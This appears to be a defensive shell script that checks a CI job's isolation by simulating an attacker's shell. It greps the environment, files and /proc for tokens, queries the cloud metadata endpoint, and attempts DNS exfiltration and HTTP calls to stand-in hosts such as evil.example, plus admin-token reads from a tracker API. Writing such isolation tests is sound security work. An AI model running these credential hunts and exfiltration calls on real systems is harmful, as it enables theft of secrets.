# What an attacker's shell in the job tries, and what it gets. One line each.
show() { printf '  %-36s %s\n' "$1" "$2"; }
http() { # the reason in the gateway's JSON, else the client's own last words
  answer=$(curl -sS -m 5 "$@" 2>&1)
  reason=${answer#*\"reason\":\"}
  if [ "$reason" != "$answer" ]; then
    echo "${reason%%\"*}"
  else
    reason=${answer##*: }
    echo "${reason##*::}"
  fi
}
search() { grep -rlaE 'trk_[A-Za-z0-9]{20}' "$@" 2>/dev/null || echo 'no token'; }

show 'the environment'                  "$(search /proc/self/environ)"
show 'every file there is'              "$(search /home /tmp /etc /run /var "$PWD")"
show '/proc of every process'           "$(search /proc/[0-9]*/environ /proc/[0-9]*/cmdline)"
show 'http://169.254.169.254, metadata' "$(http http://169.254.169.254/latest/meta-data/)"
show 'https://93.184.215.14, an address' "$(http -k https://93.184.215.14/)"
show 'ssh to 198.51.100.7'              "$(http telnet://198.51.100.7:22)"
show 'DNS: c2VjcmV0.evil.example'       "$(getent hosts c2VjcmV0.evil.example || echo 'no such name')"
show 'https://evil.example'             "$(http --resolve evil.example:443:203.0.113.9 https://evil.example/)"
show 'POST to the tracker'              "$(http -d title=owned https://api.tracker.test/v2/issues)"
show 'GET /v2/admin/tokens'             "$(http https://api.tracker.test/v2/admin/tokens)"
